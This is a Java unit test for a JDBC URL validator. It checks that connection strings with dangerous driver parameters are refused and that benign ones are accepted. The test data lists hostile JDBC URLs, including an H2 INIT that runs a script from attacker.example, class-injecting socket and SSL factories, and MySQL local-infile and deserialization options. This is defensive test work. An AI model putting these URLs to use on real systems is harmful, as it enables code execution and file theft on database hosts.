package io.azalai;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SourceUrlsTest {
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker.example/x.sql'          | INIT
            jdbc:h2:file:./x;MODE=MySQL;init=CREATE ALIAS SHELL AS 'x'                 | init
            jdbc:postgresql://h/d?socketFactory=org.x.ClassPathXmlContext              | socketFactory
            jdbc:postgresql://h/d?ssl=true&socketFactoryArg=http://x                   | socketFactoryArg
            jdbc:postgresql://h/d?sslfactory=org.attacker.Factory                      | sslfactory
            jdbc:postgresql://h/d?sslfactory=org.postgresql.ssl.NonValidatingFactory   | sslfactory
            jdbc:mysql://h/d?allowLoadLocalInfile=true                                 | allowLoadLocalInfile
            jdbc:mysql://h/d?x=1&autoDeserialize=true&queryInterceptors=y              | queryInterceptors
            jdbc:mysql://address=(host=h)(allowLoadLocalInfile=true)/d                 | allowLoadLocalInfile
            jdbc:mariadb://h/d?allowLocalInfile                 =true                  | allowLocalInfile
            jdbc:sqlite:x.db?enable_load_extension=true                                | enable_load_extension
            jdbc:duckdb:x.db;allow_unsigned_extensions=true                            | allow_unsigned_extensions
            """)
    void whatMakesADriverDoMoreThanReadIsRefusedByName(String url, String parameter) {
        // when, then
        assertThat(SourceUrls.refusal(url))
                .hasValueSatisfying(reason -> assertThat(reason).startsWith("'" + parameter + "' of its URL"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:init=1",
                "jdbc:postgresql://h/d?sslmode=verify-full&sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
                "jdbc:postgresql://h/d?ApplicationName=azalai",
                "jdbc:snowflake://x.snowflakecomputing.com/?warehouse=w",
                "jdbc:sqlite:x.db",
                "jdbc:duckdb:"
            })
    void whatReadsIsTaken(String url) {
        // when, then
        assertThat(SourceUrls.refusal(url)).isEmpty();
    }

    @Test
    void aFileOfH2IsNotMade() {
        // when, then
        assertThat(SourceUrls.ofWhatIsThere("jdbc:h2:file:./data/x;MODE=DB2"))
                .isEqualTo("jdbc:h2:file:./data/x;MODE=DB2;IFEXISTS=TRUE");
        assertThat(SourceUrls.ofWhatIsThere("jdbc:h2:~/x")).endsWith(";IFEXISTS=TRUE");
        assertThat(SourceUrls.ofWhatIsThere("jdbc:h2:~/x;IFEXISTS=FALSE")).isEqualTo("jdbc:h2:~/x;IFEXISTS=FALSE");
        assertThat(SourceUrls.ofWhatIsThere("jdbc:h2:mem:x")).isEqualTo("jdbc:h2:mem:x");
        assertThat(SourceUrls.ofWhatIsThere("jdbc:postgresql://h/d")).isEqualTo("jdbc:postgresql://h/d");
    }
}
